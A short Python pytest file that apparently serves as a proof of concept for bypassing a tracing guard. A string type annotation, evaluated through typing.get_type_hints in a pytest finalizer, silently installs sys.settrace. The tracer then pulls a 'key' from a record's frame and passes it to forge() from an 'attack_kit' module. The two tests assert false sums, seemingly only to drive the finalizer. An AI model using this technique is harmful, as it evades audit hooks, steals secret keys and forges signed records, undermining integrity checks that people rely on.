"""
sys.settrace from "<string>" code that pytest's finalizer loop runs (a typing forward reference evaluated by
typing.get_type_hints): no frame of the package on the stack, and the raising frame names settrace itself, so the
guard allows it. The tracer is then handed every frame called, the record's included, with no audit event.
"""
import functools, sys, typing

import pytest

from attack_kit import forge


def tracer(frame, event, arg):
    names = frame.f_locals
    if "key" in names and "digest" in names:
        forge(names["key"])
    return None


def carrier(x: "(sys.settrace(tracer), int)[1]"):
    pass


@pytest.fixture
def grab(request):
    request.addfinalizer(functools.partial(typing.get_type_hints, carrier))


def test_wrong(grab):
    assert 1 + 1 == 3


def test_also_wrong():
    assert 2 + 2 == 5
